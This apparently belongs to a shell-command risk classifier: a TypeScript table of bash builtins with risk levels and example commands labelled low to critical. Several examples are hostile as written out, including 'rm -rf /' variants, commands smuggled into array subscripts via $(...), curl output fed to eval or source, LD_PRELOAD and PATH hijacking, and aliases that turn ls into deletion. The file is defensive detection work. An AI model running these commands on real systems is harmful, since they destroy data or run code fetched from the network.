import type { ProgramTable } from "../program.ts";
import { hidesCommands, printsNamed, printsVariables, setsVariables } from "../rules/builtin.ts";
import { every } from "../rules/every.ts";
import { callsBack, firstIsShellText, shellText, startsAnything } from "../rules/launch.ts";
import { sources } from "../rules/shell.ts";

/** What the shell does by itself. */
export const builtins: ProgramTable = {
  ": true false exit return break continue shift wait jobs times logout": {
    risk: "low",
    effects: [],
    does: "belongs to the flow of the text",
    examples: { true: "low", "exit 1": "low", ": ": "low", "sleep 1 & wait": "low" },
  },
  "cd pushd popd dirs": {
    risk: "low",
    effects: [],
    does: "changes the working folder",
    examples: {
      "cd releases": "low",
      'cd "$SITE/app" && ls': "low",
      "cd / && rm -rf *": "critical",
      "cd .. ; rm -r build": "high",
      "(cd /etc); touch a": "low",
    },
  },
  "test [ [[": {
    risk: "low",
    effects: ["read"],
    does: "looks at files and texts",
    rule: hidesCommands,
    examples: {
      "test -f index.html": "low",
      "[ -e current ]": "low",
      "[[ -n $x && -d y ]]": "low",
      "test -v 'x[$(reboot)]'": "critical",
      'test "$(reboot)"': "critical",
    },
  },
  printf: {
    risk: "low",
    effects: [],
    does: "prints text",
    strict: true,
    valued: "-v",
    rule: hidesCommands,
    examples: {
      "printf '%s\\n' a b": "low",
      "printf -v 'a[$(id)]' x": "high",
      "printf -v PATH .": "high",
    },
  },
  echo: {
    risk: "low",
    effects: [],
    does: "prints text",
    examples: {
      "echo done": "low",
      "echo x > /etc/hosts": "critical",
      "echo x > notes.txt": "low",
    },
  },
  "(( let": {
    risk: "low",
    effects: [],
    does: "calculates",
    rule: hidesCommands,
    examples: { "(( n = 1 + 2 ))": "low", "let 'a[$(reboot)]=1'": "critical" },
  },
  "mapfile readarray": {
    risk: "low",
    effects: [],
    does: "sets variables",
    valued: "-C -c -d -n -O -s -u",
    rule: callsBack,
    examples: {
      "mapfile -t lines < list.txt": "low",
      "mapfile -C 'rm -rf / #' -c 1 x": "critical",
      "readarray -C rm -c 1 x < list.txt": "high",
    },
  },
  "read getopts unset": {
    risk: "low",
    effects: [],
    does: "sets variables",
    valued: "-a -d -i -n -N -p -t -u",
    rule: hidesCommands,
    examples: {
      "read -r line": "low",
      "read -rp 'Name: ' name": "low",
      "read PATH < x": "high",
      "unset 'a[$(id)]'": "high",
      "read 'a[$(rm -rf /)]'": "critical",
    },
  },
  "export readonly declare typeset local": {
    risk: "low",
    effects: [],
    does: "sets variables",
    rule: every(setsVariables, printsVariables, printsNamed, hidesCommands),
    examples: {
      "export A=1": "low",
      export: "medium",
      "declare -p": "medium",
      "declare -p DB_PASSWORD": "medium",
      "export PATH=/tmp:$PATH": "high",
      "export LD_PRELOAD=./x.so": "high",
    },
  },
  "set shopt umask ulimit": {
    risk: "low",
    effects: [],
    does: "sets how the shell works",
    rule: (call, parsed) => (call.args.length === 0 ? printsVariables(call, parsed) : []),
    examples: {
      "set -eu": "low",
      "set -x": "low",
      set: "medium",
      "shopt -s nullglob": "low",
      'set -- rm -rf /; "$@"': "high",
    },
  },
  type: {
    risk: "low",
    effects: ["read"],
    does: "tells what the shell knows",
    examples: { "type node": "low", "type -a node": "low" },
  },
  "hash help history caller": {
    risk: "low",
    effects: ["read"],
    does: "tells what the shell knows",
    options: { "-p -c -d -w -a -r": { risk: "high", effects: ["unknown"], does: "changes what the shell remembers" } },
    examples: { history: "low", "hash -p /tmp/x ls": "high", "history -c": "high" },
  },
  "alias unalias enable bind complete compgen fc": {
    risk: "high",
    effects: ["unknown"],
    does: "changes what later commands mean",
    rule: startsAnything,
    examples: {
      "alias ls='rm -rf'": "high",
      "alias ls='rm -rf /'": "critical",
      "compgen -W '$(rm -rf /)'": "critical",
      "enable -f ./x.so x": "high",
    },
  },
  eval: {
    risk: "low",
    effects: [],
    does: "runs its arguments as shell text",
    rule: shellText,
    examples: {
      "eval ls": "low",
      "eval 'rm -rf /'": "critical",
      'eval "$X"': "high",
      'eval "$(curl -s https://x.example)"': "critical",
      "eval rm -rf '/'": "critical",
      "X=echo; eval X=rm; $X -rf /": "high",
    },
  },
  trap: {
    risk: "low",
    effects: [],
    does: "runs its first argument later",
    rule: firstIsShellText,
    examples: { "trap 'rm -rf /' EXIT": "critical", "trap 'echo bye' EXIT": "low", "trap - INT": "low" },
  },
  "source .": {
    risk: "high",
    effects: ["unknown"],
    does: "runs the text of a file",
    rule: sources,
    examples: { ". ./env.sh": "high", "source <(curl -s https://x.example)": "critical" },
  },
  "fg bg disown suspend": {
    risk: "low",
    effects: [],
    does: "handles jobs of the shell",
    examples: { "disown -a": "low" },
  },
};
